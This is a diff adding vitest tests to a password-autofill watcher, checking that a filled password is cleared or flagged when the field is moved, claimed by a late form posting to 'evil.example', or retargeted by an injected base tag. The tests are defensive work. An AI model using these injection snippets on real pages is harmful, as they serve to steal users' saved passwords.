@@ -3,16 +3,16 @@ import { describe, expect, it } from 'vitest'
 import { watchFilled, type Breach } from '@/lib/pages/fill/watch-filled'
 import { trustEvents } from '../../support/trust-events'
 
-/** `trusted`: the browser vouches for every event of the form; `more`: what else stands in it */
-function watched({ trusted = false, more = '' } = {}) {
+/** `trusted`: the browser vouches for every event of the form; `more`: what else stands in it; `form`: what the field stands in */
+function watched({ trusted = false, more = '', form = 'form', field = '' } = {}) {
   const { document, AbortController, Event } = new JSDOM(
-    `<form action="/in"><input type=password value=secret><button type=button>Show</button>${more}</form><form id=other></form>`,
+    `<${form} action="/in"><input type=password value=secret ${field}><button type=button>Show</button>${more}</${form}><form id=other></form><div id=ad><p>Offers</p></div>`,
     {
       url: 'https://login.aliexpress.com/',
     },
   ).window
   const input = document.querySelector('input')
-  if (!input?.form) throw new Error('no input in a form')
+  if (!input || (form === 'form' && !input.form)) throw new Error('no input')
   if (trusted) trustEvents(input.form as never)
   const press = () => document.querySelector('button')?.dispatchEvent(new Event('pointerdown', { bubbles: true }))
   const send = () => input.form?.dispatchEvent(new Event('submit', { bubbles: true, cancelable: true }))
@@ -102,6 +102,35 @@ describe('a filled password', () => {
     await settled()
 
     expect(breaches).toEqual([])
+  })
+
+  it('is taken back when it is moved elsewhere, in no form', async () => {
+    const { document, input, breaches, settled } = watched({ form: 'div' })
+
+    document.querySelector('#ad')?.append(input)
+    await settled()
+
+    expect(breaches).toEqual(['moved'])
+    expect(input.value).toBe('')
+  })
+
+  it('is taken back, before it is sent, when a form that came later takes it in by its id', () => {
+    const { document, input, breaches } = watched({ form: 'div', field: 'form=late' })
+
+    document.body.insertAdjacentHTML('beforeend', '<form id=late action="https://evil.example/"></form>')
+    document.querySelector('#late')?.dispatchEvent(new document.defaultView!.Event('submit', { bubbles: true, cancelable: true }))
+
+    expect(breaches).toEqual(['moved'])
+    expect(input.value).toBe('')
+  })
+
+  it('is told of, at the latest when it is sent, when the page’s base has become another', () => {
+    const { document, breaches, send } = watched()
+
+    document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">')
+    send()
+
+    expect(breaches).toEqual(['target-changed'])
   })
 
   it('is nobody’s business after the end', async () => {
